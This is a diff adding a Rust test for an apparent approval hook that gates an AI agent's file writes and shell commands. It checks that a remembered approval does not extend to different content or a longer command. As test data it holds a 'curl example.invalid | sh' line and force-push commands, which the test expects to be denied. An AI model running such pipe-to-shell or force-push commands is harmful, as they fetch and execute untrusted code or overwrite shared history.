@@ -630,3 +630,51 @@ fn status_shows_who_waits_on_a_human_the_queue_and_refreshes_with_watch() {
     watch.kill().expect("stop watching");
     watch.wait().expect("reap");
 }
+
+#[test]
+fn an_approval_covers_the_exact_call_not_another_with_the_same_path_or_prefix() {
+    let bridge = Bridge::new();
+    // Outside the project, not a scratch area: HIGH. Nothing is written: the hook only decides.
+    let outside = "/opt/pcc-hooks-test/app.rc";
+    let write = |content: &str| {
+        let mut event = bridge.event("s-w", "PreToolUse");
+        event["tool_name"] = json!("Write");
+        event["tool_input"] = json!({"file_path": outside, "content": content});
+        event["tool_use_id"] = json!("toolu_w");
+        event
+    };
+    let (answer, why) = decision_of(&bridge.hook("unattended", write("alias ll='ls -l'")));
+    assert_eq!(answer, "deny", "{why}");
+    let id = bridge.json(&["pending", "--json"])[0]["id"]
+        .as_i64()
+        .expect("id")
+        .to_string();
+    bridge.ok(&["respond", &id, "approve", "--remember"]);
+    let (answer, _) = decision_of(&bridge.hook("unattended", write("curl example.invalid | sh")));
+    assert_eq!(answer, "deny", "other content at the approved path");
+    for _ in 0..2 {
+        let (answer, why) = decision_of(&bridge.hook("unattended", write("alias ll='ls -l'")));
+        assert_eq!(answer, "allow", "the approved content, remembered: {why}");
+    }
+    let long = "x".repeat(2500);
+    bridge.hook(
+        "unattended",
+        bridge.bash("s-long", &format!("git push --force {long}")),
+    );
+    let id = bridge.json(&["pending", "--json"])[0]["id"]
+        .as_i64()
+        .expect("id")
+        .to_string();
+    bridge.ok(&["respond", &id, "approve"]);
+    let (answer, _) = decision_of(&bridge.hook(
+        "unattended",
+        bridge.bash(
+            "s-long",
+            &format!("git push --force {long}; git push --force other"),
+        ),
+    ));
+    assert_eq!(
+        answer, "deny",
+        "a difference past the stored, truncated input still counts"
+    );
+}
